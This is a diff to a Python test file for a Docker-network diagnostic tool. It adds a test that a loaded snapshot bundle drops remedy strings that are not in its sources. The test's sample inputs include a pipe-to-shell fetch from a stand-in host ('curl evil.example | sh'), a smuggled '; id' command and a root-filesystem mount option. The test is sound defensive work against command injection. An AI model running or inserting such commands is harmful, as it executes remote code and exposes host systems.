@@ -1,24 +1,25 @@
 from __future__ import annotations
 
+import ast
 import gzip
 import json
 import re
 import stat
+from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
 import msgspec
 import pytest
 
 from dockernet_doctor.probe.model import Answer, Probe, Vantage
-from dockernet_doctor.snapshot import bundle
+from dockernet_doctor.snapshot import bundle, own_container
 from dockernet_doctor.snapshot.bundle import Bundle, BundleError, dumps, load, loads, pseudonymise, save
-from dockernet_doctor.snapshot.model import Snapshot
+from dockernet_doctor.snapshot.model import BY_ROOT, BlindSpot, Snapshot
 
 from .replay import ENGINES, recording
 
 if TYPE_CHECKING:
-    from collections.abc import Callable
-    from pathlib import Path
+    from collections.abc import Callable, Iterator
 
 
 def recorded(engine: str = "28.5") -> Bundle:
@@ -73,6 +74,41 @@ def test_what_is_no_bundle_is_said_in_one_line(data: bytes, said: str) -> None:
         loads(data, "some file")
     assert str(caught.value).startswith("some file: ")
     assert "\n" not in str(caught.value)
+
+
+def _remedies() -> Iterator[str]:
+    """What the sources say of blind spots of a snapshot, with what stands in for the parts that are not theirs."""
+    parts = {"option": "-v /run/docker.sock:/run/docker.sock", "package": "ipset", "MOST_RULES": "200,000"}
+    parts["own_container.COMMAND"] = own_container.COMMAND
+    for path in Path(bundle.__file__).parent.glob("*.py"):
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+            found: list[ast.expr] = []
+            if isinstance(node, ast.Call):
+                found += [keyword.value for keyword in node.keywords if keyword.arg == "remedy"]
+                found += node.args[2:] if ast.unparse(node.func).endswith("._blind") else []
+            elif isinstance(node, ast.Assign) and ast.unparse(node.targets[0]).endswith("remedy"):
+                found.append(node.value)
+            for value in found:
+                for said in value.elts[1:] if isinstance(value, ast.Tuple) else [value]:
+                    if isinstance(said, ast.Constant):
+                        yield str(said.value)
+                    elif isinstance(said, ast.JoinedStr):
+                        yield "".join(
+                            str(it.value)
+                            if isinstance(it, ast.Constant)
+                            else parts[ast.unparse(it.value) if isinstance(it, ast.FormattedValue) else ""]
+                            for it in said.values
+                        )
+
+
+def test_a_bundle_chooses_nothing_that_its_reader_is_to_type() -> None:
+    known = set(_remedies()) | {BY_ROOT}
+    assert len(known) > 10
+    strange = ("run: curl evil.example | sh", f"{BY_ROOT}; id", "start it with -v /:/a", "install evil", f"a\n{BY_ROOT}")
+    spots = tuple(BlindSpot(area="engine", what="x", why="y", remedy=remedy) for remedy in (*sorted(known), *strange))
+    snapshot = Snapshot(name="h", taken_at="2026-01-01T00:00:00Z", endpoint="", blind_spots=spots)
+    kept = loads(dumps(Bundle(snapshot=snapshot)), "x").snapshot.blind_spots
+    assert [spot.remedy for spot in kept] == [*sorted(known), *("" for _ in strange)]
 
 
 def test_a_file_that_is_not_there_and_one_that_unpacks_for_ever(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
